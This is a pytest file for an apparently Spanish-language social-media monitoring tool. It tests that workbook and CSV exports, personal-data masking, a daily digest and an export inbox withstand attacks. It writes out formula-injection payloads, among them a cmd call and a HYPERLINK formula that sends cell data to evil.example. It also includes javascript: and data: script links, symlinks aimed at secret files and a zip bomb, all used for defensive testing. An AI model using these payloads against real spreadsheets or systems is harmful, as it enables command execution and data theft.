"""Issue 14's attacks on what leaves the office and on the export inbox (items 4, 5, 7, 8, 9).

Each test injects the attack as found and records it in the fault ledger.
"""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from pulso.core.cells import csv_value, header_preview
from pulso.core.privacy import mask_personal_data

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?d="&B2,"clic")',
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\uff1d1+1"]


# ------------------------------------------------------------------ 4 + 9: workbooks and CSV


@pytest.mark.parametrize("streamed", [False, True])
def test_report_workbooks_store_hostile_text_as_text(tmp_path, ledger, streamed):
    """openpyxl rows and the streamed OOXML path (tables over STYLED_LIMIT) alike."""
    from pulso.reports.excel import new_workbook, save_workbook, write_key_values, write_table

    texts = [*FORMULAS, "hola\x0bmundo\x1b[31m"]
    df = pd.DataFrame({"Texto": texts, "ID caso": [f"x:{i}" for i in range(len(texts))]})
    for write_only in (False, True):
        ledger["faults_injected"] += len(texts)
        wb = new_workbook(write_only=write_only)
        fills: dict = {}
        write_table(wb, "Casos", df, fills=fills if write_only else None,
                    styled_limit=0 if streamed else 5000)
        write_key_values(wb, "Resumen", [("=1+1", "=HYPERLINK(\"x\")")])
        path = save_workbook(wb, tmp_path / f"w{write_only}{streamed}.xlsx", fills)
        cells = [c for ws in load_workbook(path) for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str)]
        with zipfile.ZipFile(path) as z:
            xml = "".join(z.read(n).decode() for n in z.namelist() if "worksheets" in n)
        assert "<f>" not in xml, "a formula reached the workbook"
        assert "\x0b" not in xml and "\x1b" not in xml
        assert any(c.value == "holamundo[31m" for c in cells)
        ledger["faults_survived"] += len(texts)


def test_classify_outputs_never_carry_live_formulas(tmp_path, ledger):
    from pulso.cli import main

    src = tmp_path / "in.csv"
    texts = FORMULAS + ["=1+1\x0b"]
    pd.DataFrame({"id": range(len(texts)), "text": texts}).to_csv(src, index=False,
                                                                  quoting=1)
    for out in ("out.xlsx", "out.csv"):
        ledger["faults_injected"] += 1
        assert main(["classify", "--input", str(src), "--output", str(tmp_path / out)]) == 0
    with zipfile.ZipFile(tmp_path / "out.xlsx") as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    written = pd.read_csv(tmp_path / "out.csv", dtype=str, encoding="utf-8-sig")["text"]
    assert all(not v.startswith(("=", "+", "@", "\uff1d")) for v in written)
    assert "-2+3" not in set(written) and "'-2+3" in set(written)
    assert csv_value("-12,5") == "-12,5"  # a plain number stays a number
    ledger["faults_survived"] += 2


# ------------------------------------------------------------------ 5: masking and the digest


@pytest.mark.parametrize("text,leak", [
    ("llámeme al 300 555 12 34", "555 12 34"), ("fijo (310) 555 4321", "555 4321"),
    ("mi cc es 52 555 123", "52 555 123"), ("escriba a vecina.rt @ example.com", "vecina.rt"),
    ("WhatsApp ３００５５５１２３４", "５５５"), ("+57 (601) 555 1234", "555 1234"),
])
def test_personal_data_in_evasive_forms_is_masked(text, leak, ledger):
    ledger["faults_injected"] += 1
    masked = mask_personal_data(text)
    assert leak not in masked and ("[" in masked)
    ledger["faults_survived"] += 1


def test_daily_digest_is_a_small_summary_without_permalinks(sqlite_warehouse, config, ledger):
    """1,500 overdue cases with handles in permalinks and javascript:/data: links."""
    from pulso.monitor.digest import build_digest, render_digest
    from pulso.monitor.retention import apply_retention
    from pulso.warehouse.schema import message, pqrs_case

    today = date(2026, 5, 20)
    created = datetime(2026, 4, 1, 15, tzinfo=UTC)
    links = ["https://facebook.com/vecina.rt/posts/1", "javascript:alert(document.cookie)",
             "data:text/html,<script>alert(1)</script>"]
    with sqlite_warehouse.begin() as conn:
        conn.execute(message.insert(), [
            {"message_id": f"facebook:{i}", "account_id": "facebook:ent", "network": "facebook",
             "kind": "comment", "created_at": created, "author_handle": "vecina.rt",
             "text": "Sin agua hace 3 días, llame al 300 555 12 34 " + "x" * 300,
             "permalink": links[i % 3], "source": "demo"} for i in range(1500)])
        conn.execute(pqrs_case.insert(), [
            {"message_id": f"facebook:{i}", "pqrs_type": "queja", "received_at": created,
             "due_date": today - timedelta(days=1), "status": "candidate"}
            for i in range(1500)])
    ledger["faults_injected"] += 1
    _, html = render_digest(config, build_digest(sqlite_warehouse, config, today))
    size = len(html.encode())
    print(f"\ndigest e-mail with 1,500 overdue cases: {size / 1024:.1f} KB")
    assert size < 100 * 1024
    assert "vecina.rt" not in html and "javascript:" not in html and "data:text" not in html
    assert "555 12 34" not in html and "1490 más" in html
    # after retention the permalink (which carries the handle) is gone too
    apply_retention(sqlite_warehouse, config, now=datetime(2030, 1, 1, tzinfo=UTC))
    with sqlite_warehouse.connect() as conn:
        assert conn.execute(message.select().where(message.c.permalink.is_not(None))
                            ).first() is None
    ledger["faults_survived"] += 1


# ------------------------------------------------------------------ 7 + 8: the export inbox


def _inbox(tmp_path: Path) -> Path:
    inbox = tmp_path / "inbox"
    (inbox / "facebook:1").mkdir(parents=True)
    return inbox


def test_inbox_refuses_symlinks_and_never_quotes_secrets(sqlite_warehouse, tmp_path, ledger):
    from pulso.sources.exports.inbox import process_inbox

    inbox = _inbox(tmp_path)
    secret = tmp_path / "author_secret"
    secret.write_text("s3cr3t-key-do-not-leak\n")
    passwd = tmp_path / "passwords.csv"
    passwd.write_text("admin:SuperSecreta123:0:0\nanalista:otra:1:1\n")
    (inbox / "facebook:1" / "posts.csv").symlink_to(secret)
    (inbox / "enlace_dir").symlink_to(tmp_path, target_is_directory=True)
    (inbox / "copia.csv").write_text(passwd.read_text())
    ledger["faults_injected"] += 3
    results = process_inbox(sqlite_warehouse, None, inbox)
    text = repr([r.as_dict() for r in results])
    assert "s3cr3t" not in text and "SuperSecreta" not in text
    refused = [r for r in results if "enlace simbólico" in r.message]
    assert len(refused) == 2 and all(r.moved_to.is_symlink() for r in refused)
    assert (inbox / "rejected" / "facebook:1" / "posts.csv.motivo.txt").exists()
    with sqlite_warehouse.connect() as conn:
        from pulso.warehouse.schema import load_reject

        reasons = " ".join(r.reason for r in conn.execute(load_reject.select()))
    assert "SuperSecreta" not in reasons and "s3cr3t" not in reasons
    assert header_preview(["admin:SuperSecreta123:0:0"]) is None
    ledger["faults_survived"] += 3


def test_zip_bomb_is_refused_unread_and_the_inbox_goes_on(sqlite_warehouse, tmp_path, ledger):
    from pulso.sources.exports import inbox as inbox_mod

    inbox = _inbox(tmp_path)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("Table data.csv", "a,b\n" + "0,0\n" * 5_000_000)  # 20 MB of zeros
    bomb = inbox / "facebook:1" / "bomba.zip"
    bomb.write_bytes(buf.getvalue())
    good = inbox / "facebook:1" / "otro.csv"
    good.write_text("col1,col2\n1,2\n")
    ledger["faults_injected"] += 1
    results = inbox_mod.process_inbox(sqlite_warehouse, None, inbox)
    by_name = {r.path.name: r for r in results}
    assert "compresión anómala" in by_name["bomba.zip"].message
    assert by_name["bomba.zip"].moved_to.parent.name == "facebook:1"
    assert "rejected" in by_name["bomba.zip"].moved_to.parts
    assert "otro.csv" in by_name and not bomb.exists() and not good.exists()
    ledger["faults_survived"] += 1
